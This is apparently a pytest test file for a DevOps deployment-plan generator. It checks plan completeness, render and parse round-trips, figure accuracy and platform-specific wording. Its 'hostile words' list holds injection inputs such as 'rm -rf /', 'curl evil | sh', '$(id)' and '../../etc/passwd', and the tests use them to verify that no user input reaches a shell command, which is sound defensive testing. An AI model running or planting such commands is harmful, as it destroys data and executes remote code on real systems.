"""Every platform × command × strategy: sealed, lossless, in its own words, figures quoted."""

from __future__ import annotations

import re
import shlex
from functools import cache
from typing import TYPE_CHECKING

import pytest

from devops_exe.assess.profile import Fact, SystemProfile
from devops_exe.blueprint.compose import compose_plan
from devops_exe.blueprint.model import PARTS, STRATEGIES, Kind
from devops_exe.blueprint.parse import parse
from devops_exe.blueprint.render import render
from devops_exe.blueprint.rules_document import placeholders
from devops_exe.blueprint.support import texts
from devops_exe.design import tables
from devops_exe.design.plan import Plan, plan

if TYPE_CHECKING:
    from collections.abc import Iterator

    from devops_exe.blueprint.dossier import Dossier

TIME = "2026-01-01T00:00:00Z"
ORCHESTRATORS = (
    "kubernetes", "ecs", "cloud-run", "lambda", "app-service", "nomad", "vm", "compose", "heroku",
)  # fmt: skip
KINDS: tuple[Kind, ...] = tuple(PARTS)
PROVIDERS = {
    "ecs": "aws", "lambda": "aws", "cloud-run": "gcp", "app-service": "azure", "kubernetes": "aws",
}  # fmt: skip


def facts(**values: object) -> dict[str, Fact]:
    return {
        name: Fact(value, "user", f"{name} {value}")  # type: ignore[arg-type]
        for name, value in values.items()
    }


def profile_of(orchestrator: str, **values: object) -> SystemProfile:
    said = facts(
        system="orders",
        orchestrator=orchestrator,
        peak_rps=800.0,
        slo_percent=99.95,
        datastores=("postgresql", "redis"),
        language="python",
        framework="fastapi",
        **values,
    )
    if orchestrator in PROVIDERS:
        said |= facts(provider=PROVIDERS[orchestrator])
    return SystemProfile(said)


def possible(orchestrator: str) -> list[str]:
    return [name for name in STRATEGIES if name in tables.platform(orchestrator)["rollout"]]


CASES = [(o, s) for o in ORCHESTRATORS for s in possible(o)]


@cache
def planned(orchestrator: str, strategy: str) -> Plan:
    return plan(profile_of(orchestrator, strategy=strategy))


@cache
def document(orchestrator: str, strategy: str, kind: Kind) -> Dossier:
    return compose_plan(kind, planned(orchestrator, strategy), TIME)


EVERY = [(o, s, kind) for o, s in CASES for kind in KINDS]


@pytest.mark.parametrize(("orchestrator", "strategy", "kind"), EVERY)
def test_the_document_is_whole(orchestrator: str, strategy: str, kind: Kind) -> None:
    dossier = document(orchestrator, strategy, kind)
    blueprint = dossier.blueprint
    present = tuple(name for name in PARTS["devops"] if getattr(blueprint, name) is not None)
    assert present == PARTS[kind]
    assert list(placeholders(blueprint)) == []
    assert [f for f in dossier.findings if f.code == "unsupported_figure"] == []
    assert [f for f in dossier.findings if f.code.startswith("ledger")] == []
    errors = [f for f in dossier.findings if f.severity == "error"]
    assert {f.code for f in errors} <= {"strategy_excluded", "rto_above_target"}
    sealed = "● Pipeline Active" if not errors else f"● Pipeline Blocked: {len(errors)} findings"
    assert blueprint.footer == sealed
    if blueprint.overview is not None:
        assert blueprint.environments is not None
        assert blueprint.overview.environments == len(blueprint.environments)
        assert blueprint.overview.pipeline_stages == 5
        assert blueprint.overview.status == (
            "[●] Healthy" if not errors else f"[◐] {len(errors)} findings"
        )


@pytest.mark.parametrize(("orchestrator", "strategy"), CASES)
@pytest.mark.parametrize("width", [39, 80, 100])
def test_what_is_printed_is_read_back_letter_for_letter(
    orchestrator: str, strategy: str, width: int
) -> None:
    for kind in KINDS:
        blueprint = document(orchestrator, strategy, kind).blueprint
        reading = parse(render(blueprint, width))
        assert reading.blueprint == blueprint
        assert reading.findings == ()


@pytest.mark.parametrize(("orchestrator", "strategy", "kind"), EVERY)
def test_every_figure_prints_the_value_of_its_entry(
    orchestrator: str, strategy: str, kind: Kind
) -> None:
    dossier = document(orchestrator, strategy, kind)
    blueprint = dossier.blueprint
    fields = {}
    if blueprint.overview is not None:
        fields["overview.reliability"] = blueprint.overview.reliability
    if blueprint.strategy is not None:
        fields["strategy.traffic_old"] = blueprint.strategy.traffic_old
        fields["strategy.traffic_new"] = blueprint.strategy.traffic_new
        total = blueprint.strategy.traffic_old.value + blueprint.strategy.traffic_new.value
        assert total == pytest.approx(100)
    if blueprint.rollback is not None:
        assert blueprint.rollback.rto is not None
        fields["rollback.rto"] = blueprint.rollback.rto
    for path, figure in fields.items():
        (reference,) = dossier.figures[path]
        value = dossier.ledger.value(reference)
        assert isinstance(value, int | float)
        decimals = len(figure.text.partition(".")[2])
        assert abs(figure.value - value) <= 0.5 * 10.0**-decimals * (1 + 1e-9) or (
            path == "overview.reliability" and 0 <= value - figure.value < 0.001
        )
    for references in dossier.figures.values():
        for reference in references:
            dossier.ledger.value(reference)  # names something


FOREIGN = re.compile(
    r"\b(?:pods?|HPA|PDB|maxSurge|kubectl|Deployment|ReplicaSet|HorizontalPod\w*|ConfigMap|Ingress"
    r"|NetworkPolicy|PodDisruption\w*|preStop|Argo)\b",
    re.IGNORECASE,
)


def said(dossier: Dossier) -> Iterator[str]:
    yield from (text for _, text in texts(dossier.blueprint))
    for command in dossier.commands:
        yield from (command.step, command.command, command.check, command.undo)
    yield from dossier.notes


@pytest.mark.parametrize(("orchestrator", "strategy"), CASES)
def test_no_other_platform_speaks_kubernetes(orchestrator: str, strategy: str) -> None:
    found = [
        text
        for kind in KINDS
        for text in said(document(orchestrator, strategy, kind))
        if FOREIGN.search(text.replace("rolling deployment", ""))
        and not re.search(r"deployment circuit breaker|nomad deployment|deployment slots?", text)
    ]
    assert (found == []) is (orchestrator != "kubernetes")


@pytest.mark.parametrize(("orchestrator", "strategy"), CASES)
def test_a_platform_speaks_its_own_words(orchestrator: str, strategy: str) -> None:
    words = tables.platform(orchestrator)
    blueprint = document(orchestrator, strategy, "devops").blueprint
    assert blueprint.scaling is not None
    assert blueprint.pipeline is not None
    assert blueprint.scaling[2].trigger.startswith(words["autoscaler"])
    assert blueprint.scaling[2].target.endswith(words["units"])
    assert blueprint.pipeline.deploy[-1] == f"{strategy}: {words['rollout'][strategy]}"
    generic = [
        f for f in document(orchestrator, strategy, "devops").findings
        if f.code == "platform_generic"
    ]  # fmt: skip
    assert bool(generic) is (orchestrator == "heroku")


def test_products_and_languages_have_their_proper_names() -> None:
    blueprint = document("kubernetes", "Canary", "devops").blueprint
    assert blueprint.pipeline is not None
    assert blueprint.pipeline.build[0].startswith("one artefact of the FastAPI service")
    assert blueprint.infrastructure is not None
    assert "RDS PostgreSQL" in blueprint.infrastructure[1].solution


@pytest.mark.parametrize("orchestrator", ORCHESTRATORS)
def test_the_first_step_says_once_what_is_proven(orchestrator: str) -> None:
    values = {"version": "v1.2.3", "strategy": possible(orchestrator)[0]}
    dossier = compose_plan("rollback", plan(profile_of(orchestrator, **values)), TIME)
    assert dossier.blueprint.rollback is not None
    first = dossier.blueprint.rollback.steps[0]
    assert first.count("v1.2.3") == 1
    assert first.startswith("Prove that v1.2.3 still exists: ")


# -- hostile words ---------------------------------------------------------------------------

HOSTILE = [
    "$(rm -rf ~)", "`reboot`", "a; rm -rf /", "a && curl evil | sh", "a\nrm -rf /", "'; drop",
    '"x"',
    "-rf", "--help", "../../etc/passwd", "..", ".", "{name}", "{{version}}", "${HOME}", "a b",
    "x" * 300, "[system_name]", "支払い", "🚀 rocket", "\u202eevil\u202c", "\x1b[31mred", "", " ",
    "%s%n", "*", "~root", "!history", "a\x00b", "\\", "|", "#", "<script>",
    "\ue000L1.x\ue001number\ue002",
]  # fmt: skip


def hostile(orchestrator: str, words: str) -> Dossier:
    said = profile_of(orchestrator, strategy=possible(orchestrator)[0])
    bad = facts(system=words, version=words, bad_version=words, ci=(words,))
    return compose_plan("rollback", plan(said.with_facts(bad)), TIME)


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("orchestrator", ORCHESTRATORS)
def test_no_word_of_the_user_reaches_a_shell(orchestrator: str, words: str) -> None:
    """Every command is, but for its names, the one of a harmless system."""
    plain = hostile(orchestrator, "orders")
    dossier = hostile(orchestrator, words)
    for harmless, command in zip(plain.commands, dossier.commands, strict=True):
        if command.step == "freeze the pipeline":
            assert not re.search(r"[$`;&|<>\"\\*~!#{}\n]", command.command)
            continue
        pattern = re.escape(harmless.command).replace("orders", r"[A-Za-z0-9][A-Za-z0-9._+-]*")
        assert re.fullmatch(pattern, command.command), command.command
        assert not re.search(r"[^\x20-\x7e]", command.command)
        if orchestrator != "heroku":  # prose there, no command
            assert len(shlex.split(command.command)) == len(shlex.split(harmless.command))
    assert parse(render(dossier.blueprint, 80)).blueprint == dossier.blueprint


@pytest.mark.parametrize("words", HOSTILE)
def test_a_name_is_a_dns_label(words: str) -> None:
    command = hostile("kubernetes", words).commands[0].command
    name = command.removeprefix("kubectl argo rollouts get rollout ")
    assert re.fullmatch(r"[a-z0-9](?:[a-z0-9-]{0,51}[a-z0-9])?", name), name


@pytest.mark.parametrize(
    ("version", "word"),
    [
        ("v1.2.3", "v1.2.3"),
        ("2024-06-12_rc+1", "2024-06-12_rc+1"),
        ("-rf", "rf"),
        ("../../etc", "etc"),
        ("..", "VERSION"),
        ("$(id)", "id"),
        ("支払い", "VERSION"),
        ("9" * 300, "9" * 128),
    ],
)
def test_a_version_is_one_safe_word(version: str, word: str) -> None:
    said = profile_of("vm", strategy="Rolling").with_facts(facts(version=version))
    commands = compose_plan("rollback", plan(said), TIME).commands
    assert commands[0].command == f"ls -d /srv/orders/releases/{word}"


def test_a_placeholder_as_a_name_is_a_finding_and_no_crash() -> None:
    dossier = hostile("kubernetes", "[system_name]")
    assert "placeholder" in {f.code for f in dossier.findings}
    assert dossier.blueprint.footer.startswith("● Pipeline Blocked")
